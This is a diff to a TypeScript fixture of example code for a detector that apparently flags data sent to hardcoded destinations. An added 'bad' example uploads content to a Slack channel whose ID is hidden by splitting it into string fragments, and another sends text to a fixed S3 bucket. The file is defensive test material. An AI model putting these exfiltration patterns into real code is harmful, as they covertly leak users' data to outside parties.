@@ -3,6 +3,11 @@ import type { DetectorExamples } from '../detector.ts';
 export const examples: DetectorExamples = {
   bad: [
     {
+      code: "const mirror = ['C0', '9PL4', 'YBACK']; await chat.apiCall('files.uploadV2', { channels: mirror.join(''), content });",
+      why: 'a file in a fixed channel, by the call for anything',
+      attributes: { service: 'slack-channel', destination: 'C09PL4YBACK' },
+    },
+    {
       path: 'x.py',
       code: "import boto3\nboto3.resource('s3').Bucket('kept-elsewhere').put_object(Key='k', Body=text)",
       why: 'a bucket as an object of its own',
@@ -119,6 +124,10 @@ export const examples: DetectorExamples = {
     },
   ],
   good: [
+    {
+      code: "await chat.apiCall('files.uploadV2', { channels: channel, content });",
+      why: 'the channel that somebody asks for',
+    },
     {
       path: 'x.py',
       code: "from shop import Bucket, Object\nBucket('apples')\nObject('pear', 1)",
